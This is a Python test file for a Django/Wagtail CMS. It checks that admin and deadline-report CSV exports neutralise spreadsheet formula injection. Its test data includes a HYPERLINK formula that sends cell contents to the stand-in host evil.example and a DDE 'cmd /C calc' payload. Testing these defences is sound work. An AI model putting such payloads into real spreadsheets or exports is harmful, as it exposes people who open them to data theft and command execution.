"""No CSV export of the admin writes a cell that a spreadsheet program would run as a formula."""

from __future__ import annotations

import pytest
from django.urls import reverse

from cms.models import Unit
from cms.spreadsheets import neutralise
from exemplar_pages.models import ExemplarPage
from tests.factories import UserFactory
from tests.helpers.workflow import as_user, submit_new_exemplar

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_looking_text_becomes_plain_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["VKSND tỉnh Bình Thuận", "2024", "", "a=b", 42, None])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def test_the_units_export_neutralises_a_formula_in_a_units_name(binh_thuan):
    Unit.objects.filter(pk=binh_thuan.pk).update(name='=HYPERLINK("http://evil.example","Bấm")')
    admin = UserFactory(username="quantri", is_superuser=True)
    response = as_user(admin).get(reverse("wagtailsnippets_cms_unit:list"), {"export": "csv"})
    csv = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK(" in csv
    assert ",=HYPERLINK(" not in csv and '"=HYPERLINK(' not in csv


def test_the_deadline_report_neutralises_a_formula_in_a_page_title(
    workflows, people, lam_dong_folder, bang_khen
):
    page = submit_new_exemplar(people, lam_dong_folder, bang_khen)
    title = "@SUM(1+1)*cmd|' /C calc'!A0"
    ExemplarPage.objects.filter(pk=page.pk).update(title=title, draft_title=title)
    revision = page.get_latest_revision()
    revision.content["title"] = revision.content["draft_title"] = title
    revision.save()
    response = as_user(people["office"]).get(reverse("workflow_deadlines"), {"export": "csv"})
    csv = b"".join(response.streaming_content).decode()
    assert "'@SUM(1+1)" in csv
